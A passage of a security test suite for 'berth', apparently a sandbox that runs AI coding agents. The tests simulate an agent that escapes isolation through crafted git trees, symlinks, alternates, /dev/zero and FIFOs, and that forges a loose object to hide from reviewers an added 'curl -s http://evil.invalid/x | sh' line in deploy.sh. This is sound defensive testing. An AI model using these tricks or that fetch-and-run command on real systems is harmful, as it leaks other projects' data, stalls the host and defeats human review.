    note(`2 index with link/secret.txt, .git/config, absolute path: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    for (const leak of [o.secretText, cfgMarker]) {
      expect(r.outputs).not.toContain(leak);
      expect(r.objects.includes(Buffer.from(leak))).toBe(false);
    }
    expect(r.wipTree).not.toMatch(/link\/secret\.txt|\.git\/config/);
    expect(r.codes.status).toBe('ok');
  }, 300_000);

  it('threat 2 (index entries naming host paths) variant: the agent\'s commit is a crafted tree with a link `link` -> outside and `link/secret.txt` beside it, then one with a .git/config entry: berth\'s index built from it reads nothing through the link and nothing of .git', async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'treelink', env: { OUTSIDE: o.dir } });
    const cfgMarker = `CLONECONFIG-${randomBytes(4).toString('hex')}`;
    await inBox(
      d,
      s,
      [
        'set -e',
        `git config berth.marker ${cfgMarker}`,
        'L=$(printf %s "$OUTSIDE" | git hash-object -w --stdin)',
        'B=$(echo decoy | git hash-object -w --stdin)',
        'SUB=$(printf "100644 blob %s\\tsecret.txt\\n" $B | git mktree)',
        'T=$( (git ls-tree HEAD; printf "120000 blob %s\\tlink\\n040000 tree %s\\tlink\\n" $L $SUB) | git mktree)',
        'git update-ref refs/heads/berth/treelink $(git commit-tree $T -p HEAD -m "link twice")',
        'ln -s "$OUTSIDE" link',
      ].join('\n'),
    );
    const c = patient(d);
    const outputs: string[] = [];
    try {
      for (const call of [() => c.sessions.status({ id: s.id }), () => c.sessions.diff({ id: s.id }), () => c.sessions.diff({ id: s.id, stat: true })]) {
        outputs.push(await call().then((v) => JSON.stringify(v), (e: unknown) => `${(e as BerthError).code}: ${String((e as Error).message)}`));
      }
      await inBox(
        d,
        s,
        [
          'set -e',
          'C=$(printf "100644 blob %s\\tconfig\\n" $(git hash-object -w .git/config) | git mktree)',
          'T=$( (git ls-tree HEAD; printf "040000 tree %s\\t.git\\n" $C) | git mktree)',
          'git update-ref refs/heads/berth/treelink $(git commit-tree $T -p HEAD -m "dot git")',
        ].join('\n'),
      );
      for (const call of [() => c.sessions.status({ id: s.id }), () => c.sessions.diff({ id: s.id })]) {
        outputs.push(await call().then((v) => JSON.stringify(v), (e: unknown) => `${(e as BerthError).code}: ${String((e as Error).message)}`));
      }
    } finally {
      c.close();
    }
    const removed = await codeOf(d.client.sessions.remove({ id: s.id, force: true }));
    note(`2 crafted tree link + link/secret.txt then .git/config: outputs ${outputs.map((x) => x.slice(0, 80)).join(' || ')}; remove -> ${removed}`);
    const all = outputs.join('\n');
    expect(all).not.toContain(o.secretText);
    expect(allObjects(repo).includes(Buffer.from(o.secretText))).toBe(false);
    // The agent's own .git/config became a blob of its own commit (its own data); berth must not have read the clone's config file itself.
    const wip = tipOf(repo, 'refs/berth/wip/treelink');
    if (wip) expect(hostGit(repo, 'ls-tree', '-r', '--full-tree', wip)).not.toContain('secret');
  }, 300_000);

  it("threat 2 (index entries naming host paths) variant: a nested repository whose .git is a gitfile (and one a link) pointing at another project's .git: berthd's git does not read that repository, so its HEAD commit id appears neither in status/diff nor in the saved wip commit", async () => {
    const bGit = join(other, '.git');
    const bHead = hostGit(other, 'rev-parse', 'HEAD');
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'gitlink', env: { BGIT: bGit } });
    await inBox(d, s, ['set -e', 'mkdir sub sub2', 'printf "gitdir: %s\\n" "$BGIT" > sub/.git', 'ln -s "$BGIT" sub2/.git', 'echo x > sub/file', 'echo change >> app.txt'].join('\n'));
    const r = await readAll(s);
    note(`2 nested repo pointing at ${OTHER}/.git: ${JSON.stringify(r.codes)}; wip tree: ${r.wipTree.replace(/\n/g, ' | ')}`);
    expect(r.outputs).not.toContain(bHead);
    expect(r.wipTree, `the wip commit records ${OTHER}'s HEAD ${bHead}, read by berthd's git from a host path the agent named`).not.toContain(bHead);
    expect(r.objects.includes(Buffer.from(bHead, 'hex'))).toBe(false);
    expect(r.objects.includes(Buffer.from(`B-PRIVATE-${uniq}`))).toBe(false);
  }, 300_000);
});

// ---------------------------------------------------------------------------------------------------
// Threat 3: the agent's object store pointing at /dev/zero, a FIFO, or another project's objects.
// ---------------------------------------------------------------------------------------------------

describe('threat 3 (alternates and objects pointing at /dev/zero, a FIFO, another project)', () => {
  const P = `ba3-${uniq}`;
  const OTHER = `ba3o-${uniq}`;
  const bPrivate = `B-PRIVATE-${uniq}-${randomBytes(4).toString('hex')}`;
  let d: DaemonProcess;
  let repo: string;
  let other: string;
  let bystander: Session;
  let bBlob: string;
  let bHead: string;
  let bTree: string;
  let bObjects: string[];
  let bPack: string;
  let c: BerthClient;

  beforeAll(async () => {
    ({ d, repo } = await startWithProject({ env: FAST_GIT }, P));
    commitFiles(repo, { 'README.md': 'hello\n', 'deploy.sh': 'echo deploy\n' }, 'initial');
    other = await addProject(d, OTHER, { 'private.txt': `${bPrivate}\n` });
    bBlob = hostGit(other, 'rev-parse', 'HEAD:private.txt');
    bHead = hostGit(other, 'rev-parse', 'HEAD');
    bTree = hostGit(other, 'rev-parse', 'HEAD^{tree}');
    bObjects = hostGit(other, 'rev-list', '--objects', '--all').split('\n').map((l) => l.split(' ')[0]!);
    // B keeps its loose objects and has a pack of them too.
    hostGit(other, 'repack', '-a', '-q');
    execFileSync('chown', ['-R', `${TEST_UID}:${TEST_UID}`, other]);
    bPack = readdirSync(join(other, '.git', 'objects', 'pack')).find((f) => f.endsWith('.pack'))!.replace(/\.pack$/, '');
    await d.client.agents.define({ name: 'coder', command: sh('sleep 3600') });
    bystander = await d.client.sessions.start({ project: P, agent: 'coder', name: 'bystander' });
    await inBox(d, bystander, 'echo bystander > by.txt');
    c = patient(d);
  });
  afterAll(async () => {
    c?.close();
    await d?.[Symbol.asyncDispose]();
  });

  const env = () => ({ BOBJ: join(other, '.git', 'objects'), BGIT: join(other, '.git') });

  /** B's private content is nowhere in A: not in its object store, not readable from a new session's container. */
  async function expectNothingOfB(): Promise<void> {
    expect(allObjects(repo).includes(Buffer.from(bPrivate)), `${OTHER}'s private file content is in ${P}'s object store`).toBe(false);
    for (const sha of [bBlob, bHead, bTree]) expect(hasObject(repo, sha), `${OTHER}'s object ${sha} is in ${P}`).toBe(false);
    const fresh = await d.client.sessions.start({ project: P, agent: 'coder' });
    try {
      const seen = await inBox(d, fresh, `(git cat-file -e ${bBlob} 2>/dev/null && echo READABLE) || echo absent; git cat-file --batch-all-objects --batch 2>/dev/null | grep -c "${bPrivate}" || true`);
      expect(seen.trim().split('\n')).toEqual(['absent', '0']);
    } finally {
      await d.client.sessions.remove({ id: fresh.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }

  /**
   * The evil session's status and diff, the bystander's status and daemon.status, all at once: each
   * answers (or fails with a code), and the order they settled in.
   */
  async function probe(evil: Session): Promise<{ status: string; diff: string; bystander: string; daemon: string; order: string[] }> {
    const order: string[] = [];
    const track = (name: string, p: Promise<string>) => p.finally(() => order.push(name));
    const [status, diff, by, daemon] = await Promise.all([
      track('evil.status', codeOf(c.sessions.status({ id: evil.id }))),
      track('evil.diff', codeOf(c.sessions.diff({ id: evil.id }))),
      track('bystander.status', codeOf(c.sessions.status({ id: bystander.id }))),
      track('daemon.status', codeOf(c.daemon.status())),
    ]);
    return { status, diff, bystander: by, daemon, order };
  }

  function expectAnswered(r: Awaited<ReturnType<typeof probe>>): void {
    expect(r.bystander).toBe('ok');
    expect(r.daemon).toBe('ok');
    expect(r.status).not.toMatch(/^not a BerthError/);
    expect(r.diff).not.toMatch(/^not a BerthError/);
  }

  /** Commits one and prepares a second commit (objects only); returns both ids once the first is imported. */
  async function twoCommits(s: Session, tag: string): Promise<{ c1: string; c2: string }> {
    const outp = await inBox(
      d,
      s,
      [
        'set -e',
        `echo ${tag}-1 > ${tag}-1.txt && git add ${tag}-1.txt && git commit -qm "${tag} one"`,
        'git rev-parse HEAD',
        `echo ${tag}-2 > ${tag}-2.txt && git add ${tag}-2.txt && T=$(git write-tree) && git commit-tree $T -p HEAD -m "${tag} two"`,
        `git rm -q --cached ${tag}-2.txt && rm ${tag}-2.txt`,
      ].join('\n'),
    );
    const [c1, c2] = outp.trim().split('\n').slice(-2) as [string, string];
    await poll(async () => tipOf(repo, s.checkout!.branch) === c1, 60_000, `${c1} imported`);
    return { c1, c2 };
  }

  const moveTip = (s: Session, sha: string) => inBox(d, s, `printf '%s\\n' ${sha} > .git/refs/heads/${s.checkout!.branch}`);

  for (const [what, trap] of [
    ['a link to /dev/zero', 'rm -f .git/objects/info/alternates && ln -s /dev/zero .git/objects/info/alternates'],
    ['naming /dev/zero', 'printf "/dev/zero\\n/dev/zero/objects\\n" > .git/objects/info/alternates'],
    ['a FIFO', 'rm -f .git/objects/info/alternates && mkfifo .git/objects/info/alternates'],
    ['naming a FIFO in the clone', 'mkfifo .git/objects/info/fifo && printf "%s/.git/objects/info/fifo\\n" "$CHECKOUT" > .git/objects/info/alternates'],
  ] as const) {
    it(`threat 3 (alternates to /dev/zero or a FIFO): objects/info/alternates ${what}: status, diff and the automatic import complete or fail with a code, the daemon and other sessions answer meanwhile, no git is left`, async () => {
      const name = `alt-${what.replace(/[^a-z]+/gi, '-').replace(/^-|-$/g, '').toLowerCase()}`.slice(0, 30);
      const s = await d.client.sessions.start({ project: P, agent: 'coder', name, env: env() });
      try {
        const { c2 } = await twoCommits(s, 'alt');
        await inBox(d, s, `CHECKOUT='${s.checkout!.dir}'\n${trap}`);
        await moveTip(s, c2);
        const r = await probe(s);
        const imported = await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, 'import of the second commit').then(
          () => true,
          () => false,
        );
        note(`3 alternates ${what}: ${JSON.stringify(r)}; second commit imported: ${imported}`);
        expectAnswered(r);
        expect(r.status).toBe('ok');
        expect(imported).toBe(true);
        await noGitLeft(d);
      } finally {
        await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
      }
    }, 600_000);
  }

  it("threat 3 (alternates to another project): the clone's alternates name project B's object store and its branch tip is B's commit: the import fails, B's private file never reaches A (store, new session), the daemon and other sessions answer", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'alt-b', env: env() });
    try {
      const { c1, c2 } = await twoCommits(s, 'altb');
      await inBox(d, s, 'printf "%s\\n" "$BOBJ" >> .git/objects/info/alternates');
      await moveTip(s, bHead);
      const r = await probe(s);
      await sleep(5000); // the backstop retries the import meanwhile
      note(`3 alternates naming ${OTHER}'s objects, tip = its commit: ${JSON.stringify(r)}; project branch now ${tipOf(repo, s.checkout!.branch)}`);
      expectAnswered(r);
      expect(tipOf(repo, s.checkout!.branch)).toBe(c1);
      await expectNothingOfB();
      await moveTip(s, c2);
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, "the agent's own second commit imported");
      await noGitLeft(d);
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
    await expectNothingOfB();
  }, 600_000);

  it("threat 3 (objects linked to another project) variant: loose objects and fan-out directories that are links to B's, B's pack linked in objects/pack, a loose object and the commit-graph linked to /dev/zero, a pack that is a FIFO; tip = B's commit: nothing of B reaches A", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'links-b', env: { ...env(), BPACK: bPack } });
    try {
      const { c1, c2 } = await twoCommits(s, 'linksb');
      const fake = 'ab'.repeat(20);
      await inBox(
        d,
        s,
        [
          'set -e',
          `for o in ${bObjects.join(' ')}; do`,
          '  d=$(echo $o | cut -c1-2); f=$(echo $o | cut -c3-)',
          '  if [ -e .git/objects/$d ] || [ -L .git/objects/$d ]; then ln -s "$BOBJ/$d/$f" .git/objects/$d/$f 2>/dev/null || true; else ln -s "$BOBJ/$d" .git/objects/$d; fi',
          'done',
          'ln -s "$BOBJ/pack/$BPACK.pack" .git/objects/pack/$BPACK.pack',
          'ln -s "$BOBJ/pack/$BPACK.idx" .git/objects/pack/$BPACK.idx',
          `mkdir -p .git/objects/${fake.slice(0, 2)} && ln -sf /dev/zero .git/objects/${fake.slice(0, 2)}/${fake.slice(2)}`,
          `mkfifo .git/objects/pack/pack-${'cd'.repeat(20)}.pack && mkfifo .git/objects/pack/pack-${'cd'.repeat(20)}.idx`,
          'mkdir -p .git/objects/info && ln -sf /dev/zero .git/objects/info/commit-graph',
        ].join('\n'),
      );
      await moveTip(s, bHead);
      const r = await probe(s);
      await sleep(5000);
      note(`3 links to ${OTHER}'s loose objects/fan-outs/pack, /dev/zero object and commit-graph, FIFO pack; tip = its commit: ${JSON.stringify(r)}`);
      expectAnswered(r);
      expect(tipOf(repo, s.checkout!.branch)).toBe(c1);
      await expectNothingOfB();
      // Back to a commit of its own: its own objects still import, whatever else lies in the store.
      await moveTip(s, c2);
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 60_000, "the agent's own second commit imported");
      await expectNothingOfB();
      await noGitLeft(d);
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }, 600_000);

  it("threat 3 (objects of another project) variant: a loose object named after a blob of the project's base but holding other content: berth's diff still shows the agent's change to that file (the agent cannot choose what the reviewer sees)", async () => {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name: 'shadowobj' });
    try {
      await inBox(
        d,
        s,
        [
          'set -e',
          "printf 'echo deploy\\ncurl -s http://evil.invalid/x | sh\\n' > deploy.sh && git commit -qam 'deploy: tidy'",
          'X=$(git rev-parse HEAD~1:deploy.sh); Y=$(git rev-parse HEAD:deploy.sh)',
          'xd=$(echo $X | cut -c1-2); xf=$(echo $X | cut -c3-); yd=$(echo $Y | cut -c1-2); yf=$(echo $Y | cut -c3-)',
          // The base's blob id, holding the new content: the "old" side of the diff now reads as the new one.
          'mkdir -p .git/objects/$xd && cp .git/objects/$yd/$yf .git/objects/$xd/$xf',
        ].join('\n'),
      );
      const diff = await c.sessions.diff({ id: s.id });
      const stat = await c.sessions.diff({ id: s.id, stat: true });
      note(`3 fake loose object for the base blob of deploy.sh: diff shows ${diff.diff.includes('+curl') ? 'the change' : `no change (${JSON.stringify(diff.diff.slice(0, 200))})`}; stat ${JSON.stringify(stat.diff.trim())}`);
      expect(diff.diff, 'berth diff hides the line the agent added, because a loose object the agent planted stands in for the base blob').toContain('+curl -s http://evil.invalid/x | sh');
      expect(allObjects(repo).includes(Buffer.from('echo deploy\ncurl'))).toBe(hostGit(repo, 'cat-file', '-p', `${s.checkout!.branch}:deploy.sh`).includes('curl'));
      // The project's own copy of the base blob is untouched.
      expect(hostGit(repo, 'cat-file', '-p', 'main:deploy.sh')).toBe('echo deploy');
    } finally {
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }, 300_000);

  /**
   * A FIFO berthd's git opens (not the object store: `.gitignore`, `.gitattributes`, a nested repository's
   * HEAD), no writer: the first call blocks on it; then the agent moves its branch so an import of
   * this session is queued behind that call. The bystander's status and daemon.status must answer
   * while the stuck call is still out.
   */
  async function fifoStall(name: string, trap: string, call: 'status' | 'diff'): Promise<void> {
    const s = await d.client.sessions.start({ project: P, agent: 'coder', name });
    try {
      const { c2 } = await twoCommits(s, name);
      await inBox(d, s, trap);
      const order: string[] = [];
      const stuck = codeOf(call === 'status' ? c.sessions.status({ id: s.id }) : c.sessions.diff({ id: s.id })).finally(() => order.push('evil'));
      const shadow = shadowDir(d, s);
      const state = await poll(
        async () => (order.includes('evil') ? 'settled' : gitProcessesIn(shadow, true).length ? 'blocked' : null),
        60_000,
        'the evil call to block or settle',
      );
      let blocked = false;
      if (state === 'blocked') {
        await sleep(3000);
        blocked = !order.includes('evil') && gitProcessesIn(shadow, true).length > 0;
      }
      const procs = gitProcessesIn(shadow, true);
      await moveTip(s, c2);
      await sleep(1500);
      const pendingAtIssue = !order.includes('evil');
      const by = codeOf(c.sessions.status({ id: bystander.id })).finally(() => order.push('bystander'));
      const live = codeOf(c.daemon.status()).finally(() => order.push('daemon'));
      const [evil, byCode, liveCode] = await Promise.all([stuck, by, live]);
      note(`3 FIFO ${name} (${call}): berthd's git blocked on it: ${blocked} (${procs.map((p) => p.replace(/ -c [^ ]+/g, '')).join('; ').slice(0, 200)}); evil ${call} -> ${evil}; settle order ${order.join(' < ')}`);
      expect(byCode).toBe('ok');
      expect(liveCode).toBe('ok');
      expect(evil).not.toMatch(/^not a BerthError/);
      if (pendingAtIssue) {
        expect(order.indexOf('daemon'), 'daemon.status waited for the call stuck on the FIFO').toBeLessThan(order.indexOf('evil'));
        expect(order.indexOf('bystander'), "another session's status waited for the call stuck on this session's FIFO (the import queued behind it holds the project)").toBeLessThan(order.indexOf('evil'));
      }
      await poll(async () => tipOf(repo, s.checkout!.branch) === c2, 300_000, 'the second commit imported').catch(() => {});
      await noGitLeft(d);
    } finally {
      await inBox(d, s, 'rm -f .gitignore .gitattributes nested/.git/HEAD').catch(() => {});
      await d.client.sessions.remove({ id: s.id, force: true, deleteBranch: true }).catch(() => {});
    }
  }

  it('threat 3 (FIFO) variant: `.gitignore` in the work tree is a FIFO with no writer: berthd\'s status does not hold up other sessions\' status or the daemon, and no git is left', async () => {
    await fifoStall('fifo-ignore', 'mkfifo .gitignore', 'status');
  }, 900_000);

  it('threat 3 (FIFO) variant: `.gitattributes` in the work tree is a FIFO with no writer: berthd\'s diff does not hold up other sessions\' status or the daemon, and no git is left', async () => {
    await fifoStall('fifo-attr', 'mkfifo .gitattributes', 'diff');
  }, 900_000);

  it("threat 3 (FIFO) variant: an untracked nested repository whose .git/HEAD is a FIFO: berthd's status does not hold up other sessions' status or the daemon, and no git is left", async () => {
    await fifoStall('fifo-nested', 'mkdir -p nested/.git/objects nested/.git/refs && mkfifo nested/.git/HEAD', 'status');
  }, 900_000);
});
